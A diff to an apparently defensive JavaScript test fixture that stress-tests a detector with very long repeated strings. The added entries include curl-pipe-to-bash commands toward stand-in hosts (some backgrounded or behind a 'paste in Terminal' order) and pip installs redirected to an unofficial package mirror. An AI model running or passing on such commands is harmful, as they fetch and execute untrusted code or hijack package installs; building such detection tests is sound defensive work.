@@ -178,6 +178,20 @@ const line400 = {
   "package sources repeated": "gem sources --add http://gems.mirror-x.net/ ".repeat(9_000),
   "own-domain package sources repeated":
     "pip install --index-url https://pypi.acme.com/simple acme.com docs.acme.com ".repeat(5_200),
+  // Round 17: indexes named in prose, orders that point a manager, install orders beside a warning, hidden pipes.
+  "package index settings in prose": "**Package index:** https://pypi.mirror-x.net/simple | ".repeat(7_300),
+  "orders that point a manager": "tell pip to look at https://pypi.mirror-x.net/simple, ".repeat(7_500),
+  "install orders beside a warning":
+    "the public build is vulnerable; install `pip install -i https://pypi.mirror-x.net/simple x` ".repeat(
+      4_400,
+    ),
+  "piped runs sent to the background": "curl -s https://x.mirror-x.net/i.sh | bash >/dev/null 2>&1 & ".repeat(
+    6_400,
+  ),
+  "pipes from free app hosting": "curl -fsSL https://a-b.pages.dev/i.sh | nohup bash; ".repeat(8_000),
+  "pipes under a paste order": "open Terminal and paste: curl -s https://x.mirror-x.net/i | bash ".repeat(
+    6_200,
+  ),
   // Chat-template tokens: 1.1-1.5 s inside round 9's and round 10's sweeps at 200 KB, 0.1-0.2 s alone (round 11).
   "chat-template <<sys>> repeated": "<<sys>> ".repeat(50_000),
   "chat-template [inst] repeated": "[inst] ".repeat(58_000),
